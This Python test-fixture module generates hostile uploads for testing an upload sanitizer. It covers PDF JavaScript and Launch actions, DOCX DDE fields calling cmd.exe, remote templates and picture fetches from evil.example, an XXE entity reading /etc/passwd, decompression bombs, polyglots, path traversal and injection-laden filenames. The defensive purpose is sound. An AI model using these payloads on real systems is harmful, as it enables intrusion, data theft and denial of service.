"""Files that somebody could send with a bad will or by accident, made here. Each is refused with the word that
is given (a key of uploads.SENTENCES), or taken and harmless: nothing of `gone` is left in what is kept."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from docx import Document
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

SCRIPT = b"<script>alert(1)</script>"
MB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    name: str
    filename: str
    make: Callable[[], bytes]
    refused: str = ""  # "": taken
    gone: tuple[bytes, ...] = ()


# ---- what is good, to begin with


def jpeg(width: int = 64, height: int = 48, **options: object) -> bytes:
    return _image("JPEG", width, height, **options)


def png(**options: object) -> bytes:
    return _image("PNG", 64, 48, **options)


def webp(**options: object) -> bytes:
    return _image("WEBP", 64, 48, **options)


def _image(form: str, width: int, height: int, **options: object) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize((width, height)).convert("RGB").save(out, form, **options)
    return out.getvalue()


def gps() -> Image.Exif:
    """Taken at a place in Hà Nội, with a turned camera."""
    exif = Image.Exif()
    exif[0x0110] = "PHONE-OF-LAN"
    exif[0x0112] = 6
    exif.get_ifd(0x8825).update({1: "N", 2: (21.0, 1.0, 42.0), 3: "E", 4: (105.0, 51.0, 12.0)})
    return exif


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _: None, **options: object) -> bytes:
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    document.pages[0].Contents = document.make_stream(b"BT /F1 12 Tf 10 10 Td (Don cua gia dinh) Tj ET")
    change(document)
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def docx() -> bytes:
    out = io.BytesIO()
    document = Document()
    document.add_paragraph("Đơn của gia đình, ngày 12/10/2026")
    document.save(out)
    return out.getvalue()


def xlsx(**more: str) -> bytes:
    sheet = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>'
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return packed(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>',
            "_rels/.rels": relationships("officeDocument", "xl/workbook.xml", ""),
            "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
            "xl/worksheets/sheet1.xml": sheet,
        }
        | more
    )


def packed(parts: dict[str, str] | dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return out.getvalue()


def relationships(kind: str, target: str, mode: str = 'TargetMode="External"') -> str:
    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId99" Type="{types}/{kind}" Target="{target}" {mode}/></Relationships>'
    )


def changed(**parts: str | bytes | None) -> bytes:
    """A good .docx in which these parts are put in the place of others, or added, or (None) left out."""
    return repacked({name.replace("__", "/"): part for name, part in parts.items()})


def repacked(parts: dict[str, str | bytes | None]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, part in parts.items():
            if part is not None:
                new.writestr(name, part)
    return out.getvalue()


def body(inside: str, before: str = "") -> str:
    main = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'{before}<w:document xmlns:w="{main}"><w:body><w:p>{inside}</w:p></w:body></w:document>'


# ---- images


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width: int, height: int, rows: bytes, *more: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def png_bomb() -> bytes:
    """400 million pixels in 400 KB."""
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(b"\0" * 20001) for _row in range(20000)) + packer.flush()
    return png_of(20000, 20000, rows)


def huge_jpeg() -> bytes:
    """Says that it has 65,500 × 65,500 pixels."""
    small = jpeg()
    place = small.index(b"\xff\xc0") + 5
    return small[:place] + struct.pack(">HH", 65500, 65500) + small[place + 4 :]


IMAGES = [
    Hostile("GPS in a photo", "IMG_1.jpg", lambda: jpeg(exif=gps()), gone=(b"PHONE-OF-LAN", b"Exif", b"GPS")),
    Hostile("script after a photo", "a.jpg", lambda: jpeg() + SCRIPT, gone=(SCRIPT,)),
    Hostile("PHP in a comment", "a.php.jpg", lambda: jpeg(comment=b"<?php phpinfo(); ?>"), gone=(b"<?php",)),
    Hostile("photo and ZIP in one", "a.jpg", lambda: jpeg() + packed({"a.exe": b"MZ"}), gone=(b"PK\3\4", b"a.exe")),
    Hostile("GPS in a WebP", "a.webp", lambda: webp(exif=gps().tobytes(), xmp=b"<x:gps/>"), gone=(b"EXIF", b"XMP")),
    Hostile("script in a PNG text", "a.png", lambda: png_of(1, 1, zlib.compress(b"\0\0"), chunk(b"tEXt", b"a\0" + SCRIPT)), gone=(SCRIPT,)),
    Hostile("ZIP after a PNG", "a.png", lambda: png() + packed({"a.js": SCRIPT}), gone=(b"PK\3\4",)),
    Hostile("bomb in a PNG text", "a.png", lambda: png_of(1, 1, zlib.compress(b"\0\0"), *[chunk(b"zTXt", b"a\0\0" + zlib.compress(b"a" * 60 * MB, 9))] * 3), "broken"),
    Hostile("a picture called PDF", "a.pdf", png),
    Hostile("a bomb of pixels", "a.png", png_bomb, "pixels"),
    Hostile("ten thousand million pixels", "a.png", lambda: png_of(100000, 100000, b""), "pixels"),
    Hostile("a JPEG of 4 thousand million pixels", "a.jpg", huge_jpeg, "pixels"),
    Hostile("just too large", "a.jpg", lambda: jpeg(8000, 5001), "pixels"),
    Hostile("half a JPEG", "a.jpg", lambda: jpeg(640, 480)[:2000], "broken"),
    Hostile("half a PNG", "a.png", lambda: png()[:80], "broken"),
    Hostile("half a WebP", "a.webp", lambda: webp()[:60], "broken"),
    Hostile("three bytes of a JPEG", "a.jpg", lambda: b"\xff\xd8\xff", "broken"),
    Hostile("HTML behind a JPEG's start", "a.jpg", lambda: b"\xff\xd8\xff" + SCRIPT * 50, "broken"),
]  # fmt: skip

OTHERS = [
    Hostile("a program called JPEG", "anh.jpg", lambda: b"MZ\x90\0" + b"\0" * 500, "unknown"),
    Hostile("a program called PDF", "don.pdf.exe", lambda: b"\x7fELF" + b"\0" * 500, "unknown"),
    Hostile("SVG with a script", "a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT, "unknown"),
    Hostile("SVG called PNG", "a.png", lambda: b'<?xml version="1.0"?><svg>' + SCRIPT + b"</svg>", "unknown"),
    Hostile("HTML called JPEG", "a.jpg", lambda: b"<!DOCTYPE html><html>" + SCRIPT, "unknown"),
    Hostile("HTML before a PDF", "a.pdf", lambda: SCRIPT + pdf(), "unknown"),
    Hostile("GIF", "a.gif", lambda: _image("GIF", 8, 8), "unknown"),
    Hostile("GIF that is a script", "a.gif", lambda: b"GIF89a/*" + b"\0" * 8 + b"*/=1;alert(1)", "unknown"),
    Hostile("TIFF", "a.tif", lambda: _image("TIFF", 8, 8), "unknown"),
    Hostile("BMP", "a.bmp", lambda: _image("BMP", 8, 8), "unknown"),
    Hostile("HEIC", "IMG_2.HEIC", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 200, "heic"),
    Hostile("Flash", "a.jpg", lambda: b"CWS\x0a" + b"\0" * 200, "unknown"),
    Hostile("PostScript called PDF", "a.pdf", lambda: b"%!PS-Adobe-3.0\n(%pipe%id) (r) file", "unknown"),
    Hostile("old Word, or one with a password", "a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"),
    Hostile("nothing", "a.pdf", lambda: b"", "broken"),
    Hostile("one byte", "a.pdf", lambda: b"%", "unknown"),
    Hostile("eleven megabytes", "a.pdf", lambda: pdf() + b"\0" * 11 * MB, "too large"),
    Hostile("only zeros", "a.docx", lambda: b"\0" * 5 * MB, "unknown"),
]  # fmt: skip


# ---- PDF


def javascript() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def note(document: pikepdf.Pdf, **entries: object) -> None:
    made = document.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **entries))
    document.pages[0].Annots = Array([made])
    if "FT" in entries:
        document.Root.AcroForm = Dictionary(Fields=Array([made]))


def opens_with_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = javascript()
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), javascript()])))


def starts_a_program(document: pikepdf.Pdf) -> None:
    note(document, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("calc.exe")))


def holds_a_file(document: pikepdf.Pdf) -> None:
    document.attachments["evil.exe"] = pikepdf.AttachedFileSpec(document, b"MZ evil", filename="evil.exe")


def has_a_file_note(document: pikepdf.Pdf) -> None:
    file = document.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("evil.exe"), EF=Dictionary(F=document.make_stream(b"MZ evil")))
    )
    note(document, Subtype=Name.FileAttachment, FS=file)


def sends_a_form(document: pikepdf.Pdf) -> None:
    note(
        document,
        Subtype=Name.Widget,
        FT=Name.Btn,
        A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example")),
    )
    document.Root.AcroForm.XFA = document.make_stream(b"<xdp>evil</xdp>")


def acts_on_a_page(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=javascript())
    note(document, Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=Array([]), Next=Array([javascript()])))


def leads_to_a_script(document: pikepdf.Pdf) -> None:
    note(document, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))


def reaches_out(document: pikepdf.Pdf) -> None:
    document.pages[0].Contents = document.make_stream(
        b"", F=String("\\\\evil.example\\share"), FFilter=Name.FlateDecode
    )
    note(document, Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\a.pdf")))


def shows_a_photo(document: pikepdf.Pdf) -> None:
    photo = document.make_stream(
        jpeg(exif=gps()),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=64,
        Height=48,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.DCTDecode,
    )
    document.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=photo))


def says_who(document: pikepdf.Pdf) -> None:
    document.docinfo["/Author"] = String("PHONE-OF-LAN")
    document.Root.Metadata = document.make_stream(b"<x>PHONE-OF-LAN</x>", Type=Name.Metadata, Subtype=Name.XML)


def is_signed(document: pikepdf.Pdf) -> None:
    value = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String("evil"))
    note(document, Subtype=Name.Widget, FT=Name.Sig, T=String("a"), V=value)


def plays(document: pikepdf.Pdf) -> None:
    note(document, Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=document.make_stream(b"evil")))


CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"


def disguised() -> bytes:
    """Names are written with escapes."""
    catalog = b"<</Type/Catalog/Pages 2 0 R/Open#41ction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>>>"
    return raw_pdf(catalog, PAGES, PAGE)


def endless_pages() -> bytes:
    return raw_pdf(CATALOG, PAGES, PAGES)


def raw_pdf(*parts: bytes) -> bytes:
    content, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(parts) + 1
    return content + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
        % (size, table, size, len(content))
    )


def packed_bomb() -> bytes:
    """The only page is in an object stream that unpacks to 1 GB."""
    packer = zlib.compressobj(9)
    bomb = packer.compress(b"9 0 " + PAGE) + b"".join(packer.compress(b" " * MB) for _mb in range(1024))
    bomb += packer.flush()
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (
        len(bomb),
        bomb,
    )
    content = b"%PDF-1.7\n"
    places = []
    for number, part in enumerate((CATALOG, PAGES.replace(b"3 0 R", b"9 0 R"), stream), 1):
        places.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    rows = [(0, 0, 0), *((1, place, 0) for place in places), (1, len(content), 0), *[(0, 0, 0)] * 4, (2, 3, 0)]
    index = b"".join(struct.pack(">BIB", *row) for row in rows)
    head = b"<</Type/XRef/Size %d/W[1 4 1]/Root 1 0 R/Length %d>>" % (len(rows), len(index))
    end = b"4 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (head, index, len(content))
    return content + end


def locked(**passwords: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(**passwords))


ACTING = (
    b"/JavaScript",
    b"/JS",
    b"/OpenAction",
    b"/AA",
    b"/Launch",
    b"/EmbeddedFile",
    b"/EF",
    b"evil",
    b"app.alert",
)
PDFS = [
    Hostile("a script when it opens", "a.pdf", lambda: pdf(opens_with_script), gone=ACTING),
    Hostile("a program", "a.pdf", lambda: pdf(starts_a_program), gone=(*ACTING, b"calc")),
    Hostile("a file inside", "a.pdf", lambda: pdf(holds_a_file), gone=ACTING),
    Hostile("a file in a note", "a.pdf", lambda: pdf(has_a_file_note), gone=ACTING),
    Hostile("a form that sends", "a.pdf", lambda: pdf(sends_a_form), gone=(*ACTING, b"/XFA", b"/SubmitForm")),
    Hostile("actions of a page", "a.pdf", lambda: pdf(acts_on_a_page), gone=ACTING),
    Hostile("a link to a script", "a.pdf", lambda: pdf(leads_to_a_script), gone=(b"javascript:",)),
    Hostile("content elsewhere", "a.pdf", lambda: pdf(reaches_out), gone=(*ACTING, b"/GoToR", b"/FFilter")),
    Hostile("a photo with GPS", "a.pdf", lambda: pdf(shows_a_photo), gone=(b"PHONE-OF-LAN", b"Exif")),
    Hostile("who wrote it, and on what", "a.pdf", lambda: pdf(says_who), gone=(b"PHONE-OF-LAN",)),
    Hostile("a signature", "a.pdf", lambda: pdf(is_signed), gone=(b"/ByteRange", b"evil")),
    Hostile("a film", "a.pdf", lambda: pdf(plays), gone=(b"/RichMedia", b"evil")),
    Hostile("a script in disguise", "a.pdf", disguised, gone=ACTING),
    Hostile("a script packed away", "a.pdf", lambda: pdf(opens_with_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), gone=ACTING),
    Hostile("PDF and ZIP in one", "a.pdf", lambda: pdf() + packed({"a.exe": b"MZ"}), gone=(b"PK\3\4", b"a.exe")),
    Hostile("PDF before a large ZIP", "a.pdf", lambda: pdf() + packed({"a.exe": random.Random(1).randbytes(9000)}), "broken"),
    Hostile("a password", "a.pdf", lambda: locked(user="x", owner="y"), "locked"),
    Hostile("a password for changes", "a.pdf", lambda: locked(user="", owner="y"), "locked"),
    Hostile("half a PDF", "a.pdf", lambda: pdf()[:-200], "broken"),
    Hostile("no page", "a.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "broken"),
    Hostile("pages without end", "a.pdf", endless_pages, "broken"),
    Hostile("a gigabyte packed small", "a.pdf", packed_bomb, "broken"),
    Hostile("only a start", "a.pdf", lambda: b"%PDF-1.7\n" + SCRIPT * 100, "broken"),
]  # fmt: skip


# ---- Word and Excel


def office_bomb() -> bytes:
    return changed(word__big_xml=None) and repacked({"word/big.xml": b"<a>" + b" " * 300 * MB + b"</a>"})


def lying() -> bytes:
    """The directory says 10 bytes where 50 MB come out."""
    honest = repacked({"word/big.xml": b"<a>" + b" " * 50 * MB + b"</a>"})
    return honest.replace(struct.pack("<I", 50 * MB + 7), struct.pack("<I", 10))


def doubled() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as package:
        package.writestr("word/DOCUMENT.xml", SCRIPT)
    return out.getvalue()


def with_password_bit() -> bytes:
    content = bytearray(docx())
    place = content.index(b"PK\x01\x02")
    content[place + 8] |= 1
    return bytes(content)


def macro_types() -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx())) as package:
        types = package.read("[Content_Types].xml")
    plain = b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return repacked({"[Content_Types].xml": types.replace(plain, b"vnd.ms-word.document.macroEnabled.main+xml")})


def dde(*pieces: str) -> str:
    run = "".join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
    return body(f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>{run}</w:r>')


LAUGHS = (
    '<!DOCTYPE a [<!ENTITY b "aaaaaaaaaa"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;">]>'
)
RELS = "word/_rels/document.xml.rels"
OFFICE = [
    Hostile("300 MB in a small file", "a.docx", office_bomb, "unpacked"),
    Hostile("a size that is a lie", "a.docx", lying, "broken"),
    Hostile("five thousand parts", "a.docx", lambda: repacked({f"word/p{n}.xml": b"<a/>" for n in range(5000)}), "unpacked"),
    Hostile("macros", "a.docx", lambda: repacked({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"),
    Hostile("a macro file under another name", "a.docx", macro_types, "macros"),
    Hostile("ActiveX", "a.docx", lambda: repacked({"word/activeX/activeX1.xml": "<a/>"}), "macros"),
    Hostile("a template from elsewhere", "a.docx", lambda: repacked({"word/_rels/settings.xml.rels": relationships("attachedTemplate", "http://evil.example/a.dotm")}), "links"),
    Hostile("a picture on a share", "a.docx", lambda: repacked({RELS: relationships("image", "file://evil.example/a.png")}), "links"),
    Hostile("a picture on a share, short", "a.docx", lambda: repacked({RELS: relationships("image", r"\\evil.example\a.png", "")}), "links"),
    Hostile("a link to a file", "a.docx", lambda: repacked({RELS: relationships("hyperlink", "file:///C:/evil.exe")}), "links"),
    Hostile("a path upwards", "a.docx", lambda: repacked({"../../evil.xml": "<a/>"}), "parts"),
    Hostile("a path from the root", "a.docx", lambda: repacked({"/etc/evil.xml": "<a/>"}), "parts"),
    Hostile("a path with backslashes", "a.docx", lambda: repacked({"word\\..\\evil.xml": "<a/>"}), "parts"),
    Hostile("a ZIP inside", "a.docx", lambda: repacked({"word/media/a.zip": packed({"a.exe": b"MZ"})}), "parts"),
    Hostile("a program inside", "a.docx", lambda: repacked({"word/media/evil.exe": b"MZ"}), "parts"),
    Hostile("an embedded object", "a.docx", lambda: repacked({"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "embedded"),
    Hostile("an HTML page inside", "a.docx", lambda: repacked({RELS: relationships("aFChunk", "a.xml", "")}), "embedded"),
    Hostile("entities that multiply", "a.docx", lambda: repacked({"word/document.xml": body("&d;", LAUGHS)}), "broken"),
    Hostile("an entity from a file", "a.docx", lambda: repacked({"word/document.xml": body("&x;", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')}), "broken"),
    Hostile("an entity in UTF-16", "a.docx", lambda: repacked({"word/document.xml": body("&d;", LAUGHS).encode("utf-16")}), "broken"),
    Hostile("a DDE field", "a.docx", lambda: repacked({"word/document.xml": dde(" DDEAUTO c:\\\\windows\\\\cmd.exe")}), "links"),
    Hostile("a DDE field in pieces", "a.docx", lambda: repacked({"word/document.xml": dde(" D", "DEAU", "TO cmd")}), "links"),
    Hostile("a field that fetches", "a.docx", lambda: repacked({"word/document.xml": body('<w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example"/>')}), "links"),
    Hostile("two parts of one name", "a.docx", doubled, "broken"),
    Hostile("a part with a password", "a.docx", with_password_bit, "locked"),
    Hostile("no document in it", "a.docx", lambda: repacked({"word/document.xml": None}), "unknown"),
    Hostile("a ZIP called Word", "a.docx", lambda: packed({"a.txt": b"a", "evil.exe": b"MZ"}), "unknown"),
    Hostile("a Java program called Word", "a.docx", lambda: packed({"META-INF/MANIFEST.MF": b"a", "A.class": b"\xca\xfe"}), "unknown"),
    Hostile("half a Word file", "a.docx", lambda: docx()[:-100], "broken"),
    Hostile("a script after Word", "a.docx", lambda: docx() + SCRIPT, gone=(SCRIPT,)),
    Hostile("a photo with GPS in Word", "a.docx", lambda: repacked({"word/media/image1.jpeg": jpeg(exif=gps())}), gone=(b"PHONE-OF-LAN",)),
    Hostile("another workbook's program", "a.xlsx", lambda: xlsx(**{"xl/externalLinks/externalLink1.xml": '<a ddeService="cmd"/>'}), "links"),
    Hostile("a data connection", "a.xlsx", lambda: xlsx(**{"xl/connections.xml": "<a/>"}), "links"),
    Hostile("old macros in Excel", "a.xlsx", lambda: xlsx(**{"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
]  # fmt: skip

CORPUS = [*IMAGES, *OTHERS, *PDFS, *OFFICE]

NAMES = [  # of files that are good: whatever they are called, that name is kept nowhere
    "a\0.pdf",
    "../../../../etc/passwd",
    r"..\..\windows\system32\evil.pdf",
    "n" * 3000 + ".pdf",
    "anh\u202egpj.exe",
    "CON.pdf",
    "em Trần Đức Anh 8A2.pdf",
    'a"; filename="evil.html',
    "a\r\nX-Evil: 1.pdf",
    ".htaccess",
    "=cmd|'/c calc'!A0.pdf",
    "",
]
